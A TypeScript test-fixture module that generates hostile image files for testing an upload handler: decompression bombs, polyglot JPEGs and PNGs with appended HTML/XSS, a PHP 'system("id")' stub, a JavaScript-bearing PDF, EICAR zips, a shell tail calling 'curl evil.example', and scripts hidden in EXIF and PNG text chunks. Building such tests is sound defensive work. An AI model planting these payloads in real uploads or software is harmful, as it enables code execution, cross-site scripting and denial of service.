import { crc32, deflateSync } from 'node:zlib';
import { eicar, rawPdf } from '@thamani/server/testing/documents.ts';
import sharp, { type SharpOptions } from 'sharp';
import { any, disarmed, draws, hostile, refused, type Hostile } from './files.ts';
import { zip } from './others.ts';

const script = '<script>alert(1)</script>';
const named = { name: 'site.jpg', mediaType: 'photo' } as const;

export async function pictures(): Promise<readonly Hostile[]> {
  const jpeg = await drawn().jpeg({ quality: 90 }).toBuffer();
  const png = await drawn().png().toBuffer();
  return [...(await beyondMeasure()), ...polyglots(jpeg, png), ...(await metadata(jpeg, png)), ...broken(jpeg, png)];
}

function drawn(width = 300, height = 200) {
  return sharp({ create: { width, height, channels: 3, background: 'teal', noise: { type: 'gaussian', mean: 120, sigma: 40 } } });
}

async function beyondMeasure(): Promise<Hostile[]> {
  const flat = { channels: 3 as const, background: 'black' };
  const large = (width: number, height: number) => sharp({ create: { width, height, ...flat }, limitInputPixels: false } as SharpOptions);
  const claims = (width: number, height: number) => pngOf(width, height, deflateSync(Buffer.alloc(1_000)));
  return [
    hostile('a PNG of 25,005,000 pixels', await large(5_001, 5_000).png().toBuffer(), refused, named),
    hostile('a PNG of 144 million pixels', await large(12_000, 12_000).png({ compressionLevel: 9 }).toBuffer(), refused, named),
    hostile('a JPEG of 100 million pixels', await large(10_000, 10_000).jpeg({ quality: 10 }).toBuffer(), refused, named),
    hostile('a PNG that says 60,000 by 60,000', claims(60_000, 60_000), refused, named),
    hostile('a PNG that says 2,147,483,647 by 1', claims(2_147_483_647, 1), refused, named),
    hostile('a PNG that says 0 by 0', claims(0, 0), refused, named),
    hostile('a PNG whose content is 400 times its picture', pngOf(100, 100, deflateSync(Buffer.alloc(120_000_000))), any, named),
    hostile(
      'a PNG whose words inflate to 200 MB',
      pngOf(
        1,
        1,
        deflateSync(Buffer.alloc(4)),
        chunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(200_000_000))])),
      ),
      any,
      named,
    ),
    hostile(
      'a PNG whose profile inflates to 200 MB',
      pngOf(
        1,
        1,
        deflateSync(Buffer.alloc(4)),
        chunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(200_000_000))])),
      ),
      any,
      named,
    ),
    hostile('a JPEG that says 65,535 by 65,535', jpegSaying(await drawn().jpeg().toBuffer(), 65_535, 65_535), refused, named),
  ];
}

/** One file that two programs read as two things: the copy must be the picture alone. */
function polyglots(jpeg: Buffer, png: Buffer): Hostile[] {
  const tails: Readonly<Record<string, Buffer>> = {
    'a web page': Buffer.from(`<html>${script}</html>`),
    PHP: Buffer.from('<?php system("id"); ?>'),
    'a zip': zip('evil.exe', Buffer.from('MZ evil')),
    'a PDF with a script': rawPdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
    'a shell script': Buffer.from('\n#!/bin/sh\ncurl evil.example\n'),
  };
  const traces = ['<html', '<script', '<?php', 'evil', '/JavaScript', '#!/bin/sh'];
  const follows = Object.entries(tails).flatMap(([what, tail]) => [
    hostile(`a JPEG followed by ${what}`, Buffer.concat([jpeg, tail]), any, { ...named, traces }),
    hostile(`a PNG followed by ${what}`, Buffer.concat([png, tail]), any, { ...named, traces }),
    hostile(`a JPEG with ${what} in its comment`, commented(jpeg, tail), any, { ...named, traces }),
  ]);
  return [
    ...follows,
    hostile('EICAR in a zip behind a JPEG', Buffer.concat([jpeg, zip('e.com', eicar)]), refused, { ...named, traces: ['EICAR'] }),
    hostile('EICAR in a zip behind a PNG', Buffer.concat([png, zip('e.com', eicar)]), any, { ...named, traces: ['EICAR'] }),
    hostile('a JPEG that is also a PDF', Buffer.concat([jpeg.subarray(0, 20), rawPdf(), jpeg.subarray(20)]), any, {
      ...named,
      traces: ['%PDF'],
    }),
    hostile(
      'an SVG that begins as a PNG',
      Buffer.concat([png.subarray(0, 8), Buffer.from(`<svg onload="alert(1)">${script}</svg>`)]),
      refused,
      named,
    ),
    hostile(
      'a web page that begins as a JPEG',
      Buffer.concat([jpeg.subarray(0, 4), Buffer.from(`<html>${script}</html>`)]),
      refused,
      named,
    ),
    hostile('a GIF that begins as a JPEG', Buffer.concat([jpeg.subarray(0, 3), Buffer.from('GIF89a')]), refused, named),
    hostile('a JPEG inside a PNG’s frame', Buffer.concat([png.subarray(0, 8), jpeg]), refused, named),
    hostile('a PDF as a photo', rawPdf(), ['at once'], { mediaType: 'photo' }),
  ];
}

/** Pictures that say more than they show. */
async function metadata(jpeg: Buffer, png: Buffer): Promise<Hostile[]> {
  const place = { IFD0: { Artist: 'secret-author', ImageDescription: script }, IFD3: { GPSLatitude: '9/1 24/1 0/1', GPSLatitudeRef: 'N' } };
  const traces = ['secret', '<script', 'GPS', 'Exif'];
  return [
    hostile('a JPEG that tells where it was taken', await sharp(jpeg).withExif(place).jpeg().toBuffer(), disarmed, { ...named, traces }),
    hostile('a PNG that tells where it was taken', await sharp(png).withExif(place).png().toBuffer(), disarmed, { ...named, traces }),
    hostile('a PNG with a script in its words', withChunk(png, chunk('tEXt', Buffer.from(`Comment\0${script}secret`))), disarmed, {
      ...named,
      traces,
    }),
    hostile(
      'a PNG with a script in its international words',
      withChunk(png, chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}secret`))),
      disarmed,
      { ...named, traces },
    ),
    hostile('a PNG with EICAR in its words', withChunk(png, chunk('tEXt', Buffer.concat([Buffer.from('a\0'), eicar]))), any, {
      ...named,
      traces: ['EICAR'],
    }),
    hostile(
      'a JPEG with a packet about itself',
      commented(jpeg, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>secret</x:xmpmeta>'), 0xe1),
      disarmed,
      { ...named, traces },
    ),
  ];
}

function broken(jpeg: Buffer, png: Buffer): Hostile[] {
  const cuts = [0.02, 0.1, 0.3, 0.6, 0.9].flatMap((part) => [
    hostile(`a JPEG cut at ${part}`, jpeg.subarray(0, Math.floor(jpeg.byteLength * part)), refused, named),
    hostile(`a PNG cut at ${part}`, png.subarray(0, Math.floor(png.byteLength * part)), refused, named),
  ]);
  const random = draws(23);
  const flips = Array.from({ length: 12 }, (_, index) => {
    const bytes = Buffer.from(index % 2 === 0 ? jpeg : png);
    for (let flip = 0; flip < 10; flip += 1) bytes[12 + Math.floor(random() * (bytes.byteLength - 12))] = Math.floor(random() * 256);
    return hostile(`a picture with changed bytes ${index}`, bytes, any, named);
  });
  return [
    ...cuts,
    ...flips,
    hostile('a JPEG of its mark alone', jpeg.subarray(0, 3), refused, named),
    hostile('a PNG of its mark alone', png.subarray(0, 8), refused, named),
    hostile('a PNG with a wrong sum', changed(png, png.indexOf('IDAT') + 10), any, named),
  ];
}

function changed(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ 0xff;
  return copy;
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.byteLength);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function pngOf(width: number, height: number, content: Buffer, more: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8);
  const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([mark, chunk('IHDR', header), more, chunk('IDAT', content), chunk('IEND', Buffer.alloc(0))]);
}

/** Behind the header, where readers look for words. */
function withChunk(png: Buffer, more: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), more, png.subarray(33)]);
}

/** A segment right behind the start of a JPEG. */
function commented(jpeg: Buffer, comment: Buffer, marker = 0xfe): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(comment.byteLength + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)]);
}

function jpegSaying(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return copy;
}
